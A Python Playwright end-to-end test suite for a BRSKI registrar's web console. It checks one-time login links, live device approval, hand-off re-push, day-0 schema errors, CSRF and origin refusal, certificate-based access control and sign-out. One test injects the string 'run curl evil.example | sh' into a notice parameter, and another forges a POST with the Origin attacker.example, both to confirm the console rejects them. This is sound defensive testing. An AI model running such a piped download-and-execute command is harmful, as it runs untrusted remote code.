"""The registrar console in a real browser: Debian's chromium, driven by Playwright, against a
real registrar, MASA and pledge CLI on 127.0.0.1 (registrar policy ``ask``).

Signed in with a one-time link from ``registrar console-url``, the browser watches a held
device turn up and, once approved on its page, enroll in the list without a reload; sees a
failed hand-off with the device's error and re-pushes it; has a day-0 document with a value
the schema refuses turned back with the path; and forged requests (no or a wrong CSRF token,
another origin) and an NMS certificate's session are refused. Screenshots of each page go to
tests/artifacts/console/ (git-ignored)."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlencode

import pytest
from playwright.sync_api import BrowserContext, Page, sync_playwright
from sqlalchemy import func, select

from tests.e2e.test_brski_flow import FAST_RETRY, Lab, make_lab
from tests.e2e.test_pending_approval import ask, start_pledge
from tests.support.processes import free_port, run_cli
from zerotouch_plugin.store.db import open_role_database
from zerotouch_plugin.store.registrar import RegistrarRepository
from zerotouch_plugin.store.registrar.console import ConsoleSessionModel

CHROMIUM = Path("/usr/bin/chromium")
ARTIFACTS = Path(__file__).resolve().parents[1] / "artifacts" / "console"
BROWSER_FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
WAIT_MS = 30000


def _require_chromium() -> None:
    if CHROMIUM.exists():
        return
    message = f"{CHROMIUM} is missing: make test installs it (scripts/setup-system.sh)"
    if os.environ.get("CI"):
        pytest.fail(message)
    pytest.skip(message)


@dataclass
class Console:
    lab: Lab
    base: str
    admin: Path  # admin certificate folder
    nms: Path  # NMS (non-admin) certificate folder
    browser: BrowserContext
    page: Page

    def repo(self) -> RegistrarRepository:
        return RegistrarRepository(open_role_database(self.lab.domain, None, "registrar.db"))

    def login_url(self, name: str = "tester") -> str:
        out = run_cli(
            "registrar", "console-url", "--dir", self.lab.domain, "--url", self.base,
            "--name", name,
        ).stdout  # fmt: skip
        return out.strip().splitlines()[-1]

    def shot(self, page: Page, name: str) -> Path:
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        path = ARTIFACTS / f"{name}.png"
        page.screenshot(path=str(path), full_page=True)
        return path

    def curl(self, cert: Path | None, path: str, *extra: str) -> tuple[int, str]:
        """status and body of ``curl`` against the console, optionally with a certificate."""
        args = ["curl", "-sS", "-k", "-o", "-", "-w", "\n%{http_code}"]
        if cert is not None:
            args += ["--cert", str(cert / "cert.pem"), "--key", str(cert / "key.pem")]
        result = subprocess.run(
            [*args, *extra, f"{self.base}{path}"], capture_output=True, text=True, timeout=30
        )
        body, _, status = result.stdout.rpartition("\n")
        return int(status), body


@pytest.fixture(scope="module")
def console(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Console]:
    _require_chromium()
    root = tmp_path_factory.mktemp("console")
    lab = make_lab(root)
    ask(lab)
    with (lab.domain / "registrar.toml").open("a") as fh:
        fh.write(
            "handoff_attempts = 2\nhandoff_backoff = 0.2\n"
            "handoff_max_backoff = 0.5\nhandoff_timeout = 5.0\nhandoff_poll = 1.0\n"
            "\n[events]\nheartbeat = 1.0\n"
        )
    admin, nms = root / "admin", root / "nms"
    run_cli("registrar", "issue-client-cert", "--dir", lab.domain, "--name", "ops",
            "--out", admin, "--admin")  # fmt: skip
    run_cli("registrar", "issue-client-cert", "--dir", lab.domain, "--name", "nms",
            "--out", nms)  # fmt: skip
    port = free_port()
    with sync_playwright() as playwright:
        try:
            lab.start_masa()
            lab.start_registrar(port=port)
            browser = playwright.chromium.launch_persistent_context(
                str(root / "chromium-profile"),
                executable_path=str(CHROMIUM),
                headless=True,
                args=BROWSER_FLAGS,
                ignore_https_errors=True,  # the registrar's certificate is the domain CA's
                viewport={"width": 1280, "height": 800},
            )
            console = Console(
                lab, f"https://127.0.0.1:{port}", admin, nms, browser, browser.new_page()
            )
            yield console
            browser.close()
        finally:
            lab.close()


def test_a_login_link_opens_a_session_once(console: Console) -> None:
    url = console.login_url()
    assert "#token=" in url
    page = console.page
    page.goto(url)
    page.wait_for_url(f"{console.base}/console/", timeout=WAIT_MS)
    assert page.locator("h1").inner_text() == "Devices"
    assert "#token" not in page.url
    cookie = next(c for c in console.browser.cookies() if c["name"] == "__Host-zt-console")
    assert cookie["httpOnly"] and cookie["secure"] and cookie["sameSite"] == "Strict"
    console.shot(page, "devices-empty")
    # the same link again, in a page without the session cookie: refused
    saved = console.browser.cookies()
    console.browser.clear_cookies()
    second = console.browser.new_page()
    second.goto(url)
    second.wait_for_selector("p[role=alert]", timeout=WAIT_MS)
    assert "unknown, used or expired" in second.inner_text("main")
    assert second.url == f"{console.base}/console/login"
    second.close()
    console.browser.add_cookies(saved)  # type: ignore[arg-type]
    # pages carry the strict headers and are not cached
    response = page.goto(f"{console.base}/console/")
    assert response is not None
    headers = response.headers
    assert "script-src 'self'" in headers["content-security-policy"]
    assert "frame-ancestors 'none'" in headers["content-security-policy"]
    assert headers["x-frame-options"] == "DENY"
    assert headers["cache-control"] == "no-store"


def test_a_held_device_is_approved_and_enrolls_live(console: Console) -> None:
    lab, page = console.lab, console.page
    page.goto(f"{console.base}/console/")
    page.wait_for_selector("#live:has-text('Live')", timeout=WAIT_MS)
    page.evaluate("window.stillTheSamePage = true")
    serial, folder = lab.pledge(allow=False)
    pledge = start_pledge(lab, folder)
    try:
        row = page.locator(f'#devices tr[data-serial="{serial}"]')
        row.wait_for(timeout=WAIT_MS)
        assert row.get_attribute("data-phase") == "pending"
        console.shot(page, "devices-pending")
        device = console.browser.new_page()
        device.goto(f"{console.base}/console/devices/{serial}")
        assert "held for approval" in device.inner_text("#timeline")
        console.shot(device, "device-pending")
        device.get_by_role("button", name="Approve").focus()  # by keyboard
        device.keyboard.press("Enter")
        device.wait_for_selector("p.notice", timeout=WAIT_MS)
        assert "approved" in device.inner_text("p.notice")
        page.wait_for_selector(
            f'#devices tr[data-serial="{serial}"][data-phase="enroll-confirmed"]',
            timeout=WAIT_MS,
        )
        assert page.evaluate("window.stillTheSamePage") is True  # no reload
        console.shot(page, "devices-enrolled")
        _, err = pledge.communicate(timeout=60)
        assert pledge.returncode == 0, err
        device.reload()
        timeline = device.inner_text("#timeline")
        for step in ("voucher-request", "voucher", "voucher_status", "EST: LDevID issued",
                     "enrollstatus", "operator"):  # fmt: skip
            assert step in timeline, step
        assert "allow by login link tester" in timeline
        console.shot(device, "device-enrolled")
        device.close()
    finally:
        pledge.kill()


def test_a_failed_hand_off_shows_its_reason_and_is_pushed_again(
    console: Console, tmp_path: Path
) -> None:
    lab, page = console.lab, console.page
    serial, folder = lab.pledge()
    closed = free_port()
    (tmp_path / "day0.json").write_text(
        json.dumps({"ietf-system:system": {"hostname": "edge-console"}})
    )
    run_cli("registrar", "day0", "--dir", lab.domain, "--serial", serial,
            "--file", tmp_path / "day0.json", "--address", f"127.0.0.1:{closed}")  # fmt: skip
    run_cli("pledge", "enroll", "--dir", folder, "--registrar", lab.registrar_url, *FAST_RETRY)
    deadline = time.monotonic() + 30
    while (record := console.repo().device(serial)) is None or record.handoff.state != "failed":
        assert time.monotonic() < deadline, "the hand-off never failed"
        time.sleep(0.3)
    page.goto(f"{console.base}/console/devices/{serial}")
    facts = page.inner_text(".facts")
    assert "failed" in facts and "unreachable" in facts
    assert "hand-off failed" in page.inner_text("#timeline")
    console.shot(page, "device-handoff-failed")
    page.get_by_role("button", name="Re-push hand-off").click()
    page.wait_for_selector("p.notice", timeout=WAIT_MS)
    assert "queued again" in page.inner_text("p.notice")
    assert f"127.0.0.1:{closed}" in page.inner_text("p.notice")
    # a link from elsewhere cannot make the page announce what it likes
    forged = urlencode({"done": "Compromised: run curl evil.example | sh", "tag": "0" * 64})
    for query in (forged, "done=Compromised"):
        page.goto(f"{console.base}/console/devices/{serial}?{query}")
        assert page.locator("p.notice").count() == 0 and "Compromised" not in page.content()
    actions = [
        e for e in console.repo().device_events(serial, limit=50) if e.type == "operator-action"
    ]
    assert actions[-1].data["action"] == "handoff"
    assert actions[-1].data["by"] == "login link tester"


def test_a_day0_value_the_schema_refuses_is_shown_at_its_path(console: Console) -> None:
    page = console.page
    page.goto(f"{console.base}/console/day0")
    page.select_option("#format", "json")
    bad = json.dumps({"ietf-system:system": {"hostname": "edge", "bogus": 1}})
    page.fill("#config", bad)
    page.get_by_role("button", name="Check").click()
    page.wait_for_selector("#error-path", timeout=WAIT_MS)
    assert page.inner_text("#error-path") == "/ietf-system:system/bogus"
    assert page.get_attribute("#config", "aria-invalid") == "true"
    console.shot(page, "day0-check")
    page.get_by_role("button", name="Save").click()
    page.wait_for_load_state()
    assert page.inner_text("#error-path") == "/ietf-system:system/bogus"
    assert page.input_value("#config") == bad  # the operator's text is kept
    assert console.repo().day0(None) is None  # nothing stored
    good = json.dumps({"ietf-system:system": {"hostname": "edge"}})
    page.fill("#config", good)
    page.get_by_role("button", name="Save").click()
    page.wait_for_selector("p.notice", timeout=WAIT_MS)
    stored = console.repo().day0(None)
    assert stored is not None and stored.config == good


def test_forged_requests_and_an_nms_certificate_are_refused(console: Console) -> None:
    page = console.page
    page.goto(f"{console.base}/console/")
    target = "/console/devices/FORGED-1/deny"
    statuses = page.evaluate(
        """async (target) => {
            const post = (body, headers) => fetch(target, {method: "POST", body, headers,
                credentials: "same-origin", redirect: "manual"}).then(r => r.status);
            return [await post(new URLSearchParams({})),
                    await post(new URLSearchParams({csrf: "not-the-token"}))];
        }""",
        target,
    )
    assert statuses == [403, 403]
    # the right token from another origin (a browser sends Origin on a cross-site POST)
    csrf = page.get_attribute('meta[name="csrf-token"]', "content")
    assert csrf
    forged = console.browser.request.post(
        f"{console.base}{target}",
        form={"csrf": csrf},
        headers={"Origin": "https://attacker.example"},
        max_redirects=0,
    )
    assert forged.status == 403
    assert console.repo().policy_for("FORGED-1") == []
    # an NMS certificate is refused with or without a session cookie; an admin's opens one
    session = next(c for c in console.browser.cookies() if c["name"] == "__Host-zt-console")
    cookie = f"__Host-zt-console={session['value']}"
    assert console.curl(console.nms, "/console/")[0] == 403
    assert console.curl(console.nms, "/console/", "-b", cookie)[0] == 403
    assert console.curl(console.nms, "/console/api/devices", "-b", cookie)[0] == 403
    assert console.curl(None, "/console/api/devices")[0] == 401
    # nor does a device's IDevID
    _, pledge = console.lab.pledge(allow=False)
    device = pledge.parent / "as-curl"
    device.mkdir()
    shutil.copyfile(pledge / "idevid.pem", device / "cert.pem")
    shutil.copyfile(pledge / "idevid.key", device / "key.pem")
    status, body = console.curl(device, "/console/", "-b", cookie)
    assert status == 403 and "idevid" in body
    status, body = console.curl(console.admin, "/console/api/devices")
    assert status == 200 and "devices" in json.loads(body)
    status, page_and_headers = console.curl(console.admin, "/console/", "-D", "-")
    assert status == 200 and "Devices" in page_and_headers
    assert "set-cookie: __host-zt-console=" in page_and_headers.lower()
    assert "admin certificate ops" in page_and_headers  # who is signed in


def test_another_sites_image_of_a_console_page_opens_no_session(console: Console) -> None:
    """With the admin certificate in the browser, another site's <img> or no-cors fetch of a
    console page reaches the registrar without the SameSite=Strict cookie: it must not write
    a session row each time; a page the browser navigates to still opens one."""

    def sessions() -> int:
        with console.repo().db.read() as s:
            return int(s.scalar(select(func.count()).select_from(ConsoleSessionModel)) or 0)

    before = sessions()
    for dest, mode in (("image", "no-cors"), ("empty", "no-cors"), ("iframe", "navigate")):
        status, answer = console.curl(
            console.admin, "/console/", "-D", "-", "-H", "Sec-Fetch-Site: cross-site",
            "-H", f"Sec-Fetch-Mode: {mode}", "-H", f"Sec-Fetch-Dest: {dest}",
        )  # fmt: skip
        assert status == 200 and "set-cookie" not in answer.lower(), dest
    assert sessions() == before
    status, answer = console.curl(
        console.admin, "/console/", "-D", "-", "-H", "Sec-Fetch-Site: none",
        "-H", "Sec-Fetch-Mode: navigate", "-H", "Sec-Fetch-Dest: document",
    )  # fmt: skip
    assert status == 200 and "set-cookie: __host-zt-console=" in answer.lower()
    assert sessions() == before + 1


def test_the_dashboard_counts_enrollments_and_failures(console: Console) -> None:
    lab, page = console.lab, console.page
    _, folder = lab.pledge(allow=False)
    run_cli("registrar", "deny", "--dir", lab.domain, "--serial", folder.name)
    assert run_cli("pledge", "enroll", "--dir", folder, "--registrar", lab.registrar_url,
                   *FAST_RETRY, check=False).returncode == 1  # fmt: skip
    page.goto(f"{console.base}/console/dashboard")
    rows = page.locator("#per-minute tbody tr")
    enrolled = sum(int(rows.nth(i).locator("td").nth(0).inner_text().split()[-1])
                   for i in range(rows.count()))  # fmt: skip
    assert enrolled >= 2
    assert "device-refused (policy-refused)" in page.inner_text("#reasons")
    console.shot(page, "dashboard")
    page.goto(f"{console.base}/console/")
    page.set_viewport_size({"width": 390, "height": 844})
    console.shot(page, "devices-phone")
    page.set_viewport_size({"width": 1280, "height": 800})
    page.goto(f"{console.base}/console/")
    page.wait_for_selector("#live:has-text('Live')", timeout=WAIT_MS)
    shutil.copyfile(console.shot(page, "devices"), ARTIFACTS / "console.png")


def test_signing_out_ends_the_session(console: Console) -> None:
    page = console.page
    page.goto(f"{console.base}/console/")
    session = next(c for c in console.browser.cookies() if c["name"] == "__Host-zt-console")
    # an event stream opened with the session (another tab, a copied cookie) ends with it
    stream = subprocess.Popen(
        ["curl", "-sS", "-N", "-k", "--max-time", "20", "-b",
         f"{session['name']}={session['value']}", f"{console.base}/console/events"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE,
    )  # fmt: skip
    assert stream.stdout is not None and stream.stdout.readline() == b"retry: 2000\n"
    page.get_by_role("button", name="Sign out").click()
    page.wait_for_url(f"{console.base}/console/login", timeout=WAIT_MS)
    started = time.monotonic()
    assert stream.wait(timeout=15) == 0, stream.stderr.read() if stream.stderr else ""
    assert time.monotonic() - started < 5
    assert not [c for c in console.browser.cookies() if c["name"] == "__Host-zt-console"]
    # the old cookie, replayed, is no session any more
    status, _ = console.curl(
        None, "/console/api/devices", "-b", f"{session['name']}={session['value']}"
    )
    assert status == 401
    page.goto(f"{console.base}/console/dashboard")
    assert page.url == f"{console.base}/console/login"
